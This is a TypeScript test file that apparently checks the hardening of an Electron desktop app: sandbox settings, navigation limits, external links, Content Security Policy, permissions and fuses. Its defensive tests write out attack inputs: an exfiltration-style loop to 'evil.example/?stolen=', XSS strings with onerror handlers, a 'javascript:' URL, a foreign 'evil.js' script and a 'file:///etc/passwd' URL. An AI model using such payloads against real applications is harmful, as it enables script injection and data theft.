import { join } from 'node:path'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'
import { packedProgram, root } from '../build/runtime.ts'
import { type App, createProfile, type Profile } from './app.ts'
import { output } from './desk.ts'
import { openConsole } from './steps.ts'

const server = inject('server')
let profile: Profile
let app: App

beforeAll(async () => {
  profile = await createProfile(inject('desk'))
  app = await profile.launch()
  await openConsole(app.page, server)
  // What leaves the app is noted instead of starting a browser.
  await app.electron.evaluate(({ dialog, shell }) => {
    const left: string[] = []
    const questions: string[] = []
    Object.assign(globalThis, { left, questions, answer: Promise.resolve(0) })
    shell.openExternal = async (url) => void left.push(url)
    // Native dialogs cannot be driven; what a person would click can be given.
    dialog.showMessageBox = async (...given: unknown[]) => {
      questions.push((given.at(-1) as Electron.MessageBoxOptions).message)
      const response = await (globalThis as unknown as { answer: Promise<number> }).answer
      return { response, checkboxChecked: false }
    }
  })
})
afterAll(async () => {
  await app.close()
  await profile.remove()
})

const leftForBrowser = () =>
  app.electron.evaluate(() => (globalThis as unknown as { left: string[] }).left.splice(0))

const questions = () =>
  app.electron.evaluate(() => (globalThis as unknown as { questions: string[] }).questions.splice(0))

test('the page has nothing of Node', async () => {
  const seen = await app.page.evaluate(() =>
    ['require', 'process', 'module', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer'].filter(
      (name) => name in globalThis,
    ),
  )
  expect(seen).toEqual([])
  const settings = await app.electron.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as {
      getLastWebPreferences(): Record<string, unknown>
    }
    return contents.getLastWebPreferences()
  })
  expect(settings).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    webviewTag: false,
    webSecurity: true,
    allowRunningInsecureContent: false,
    experimentalFeatures: false,
    nodeIntegrationInSubFrames: false,
    enableBlinkFeatures: '',
  })
})

test('the page cannot navigate to another origin', async () => {
  const before = app.page.url()
  for (const url of ['https://example.com/', `${server}/`, 'file:///etc/passwd', 'data:text/html,<p>gone']) {
    await app.page.evaluate((to) => location.assign(to), url)
  }
  await app.page.evaluate(() => new Promise((resolve) => setTimeout(resolve)))
  expect(app.page.url()).toBe(before)
  expect(await app.page.evaluate(() => document.querySelector('h1')?.textContent)).toBe(
    'SMS Lead Management Dashboard',
  )
  expect(await leftForBrowser()).toEqual(['https://example.com/'])
  expect(await questions()).toEqual(['Open example.com in your browser?'])
})

test('links go to the system browser, and only encrypted ones', async () => {
  const windows = await app.page.evaluate((insecure) => {
    const opened = [
      'https://example.com/help',
      insecure,
      'file:///etc/passwd',
      'javascript:alert(1)',
      'https://a:b@example.com/',
    ]
    return opened.map((url) => window.open(url) === null)
  }, server)
  expect(windows).toEqual([true, true, true, true, true])
  expect(await leftForBrowser()).toEqual(['https://example.com/help'])
  expect(await questions()).toEqual(['Open example.com in your browser?'])
  expect(app.electron.windows()).toHaveLength(1)
})

test('a script of the page cannot carry anything out through the browser without a person’s yes', async () => {
  await app.electron.evaluate(() => {
    const answer = new Promise((resolve) => Object.assign(globalThis, { cancel: () => resolve(1) }))
    Object.assign(globalThis, { answer })
  })
  await app.page.evaluate(() => {
    for (let n = 0; n < 50; n++) window.open(`https://evil.example/?stolen=${n}`)
  })
  await app.electron.evaluate(() => (globalThis as unknown as { cancel(): void }).cancel())
  expect(await leftForBrowser()).toEqual([])
  // One at a time, never fifty windows with questions.
  expect(await questions()).toEqual(['Open evil.example in your browser?'])
})

test('the policy blocks text made into elements or code, inline script, foreign script, frames and foreign requests', async () => {
  const blocked = await app.page.evaluate(async (foreign) => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
    const refused = (attempt: () => void) => {
      try {
        attempt()
        return false
      } catch {
        return true
      }
    }
    const script = document.createElement('script')
    const button = document.createElement('button')
    const written = [
      () => (document.createElement('p').innerHTML = '<img src=x onerror="hacked = true">'),
      () => document.body.insertAdjacentHTML('beforeend', '<p>'),
      () => document.write('<p>'),
      () => (script.text = 'window.hacked = true'),
      () => script.append('window.hacked = true'),
      () => (script.src = `${foreign}/evil.js`),
      () => button.setAttribute('onclick', 'window.hacked = true'),
    ].map(refused)
    const module = Object.assign(document.createElement('link'), { rel: 'modulepreload' })
    module.href = `${foreign}/evil.js`
    document.head.append(module)
    const frame = document.createElement('iframe')
    frame.src = foreign
    document.body.append(frame)
    // In a task of its own: what the test's own inspector starts may evaluate.
    const evaluated = await new Promise((resolve) =>
      setTimeout(() => {
        try {
          resolve(new Function('return 1')())
        } catch {
          resolve('refused')
        }
      }),
    )
    const fetched = await fetch(`${foreign}/healthz`).then(
      () => 'let through',
      () => 'refused',
    )
    await new Promise((resolve) => setTimeout(resolve, 200))
    frame.remove()
    return {
      hacked: 'hacked' in window,
      evaluated,
      written,
      fetched,
      violations: [...new Set(violations)].sort(),
    }
  }, server)
  expect(blocked).toEqual({
    hacked: false,
    evaluated: 'refused',
    written: [true, true, true, true, true, true, true],
    fetched: 'refused',
    violations: ['connect-src', 'frame-src', 'require-trusted-types-for', 'script-src-elem'],
  })
})

test('permissions are denied', async () => {
  const states = await app.page.evaluate(async () => {
    const names = ['geolocation', 'notifications', 'camera', 'microphone', 'midi']
    return Promise.all(
      names.map((name) =>
        navigator.permissions.query({ name: name as PermissionName }).then((found) => found.state),
      ),
    )
  })
  expect(states).toEqual(['denied', 'denied', 'denied', 'denied', 'denied'])
  const media = await app.page.evaluate(() =>
    navigator.mediaDevices.getUserMedia({ audio: true }).then(
      () => 'given',
      (error) => error.name,
    ),
  )
  expect(media).not.toBe('given')
})

test('the program cannot be used as Node, and only runs its own archive', async () => {
  const reader = join(root, 'node_modules/.bin/electron-fuses')
  const wire = await output(reader, ['read', '--app', packedProgram()], { PATH: process.env.PATH ?? '' })
  for (const fuse of [
    'RunAsNode is Disabled',
    'EnableNodeOptionsEnvironmentVariable is Disabled',
    'EnableCookieEncryption is Enabled',
    'EnableEmbeddedAsarIntegrityValidation is Enabled',
    'OnlyLoadAppFromAsar is Enabled',
  ]) {
    expect(wire).toContain(fuse)
  }
})

test('nothing went wrong in the console on the way', () => {
  const expected =
    /Content Security Policy|Failed to load resource|ERR_BLOCKED|Not allowed to load local resource|Refused to|violates|navigate|requires 'Trusted/
  expect(app.complaints.filter((line) => !expected.test(line))).toEqual([])
})
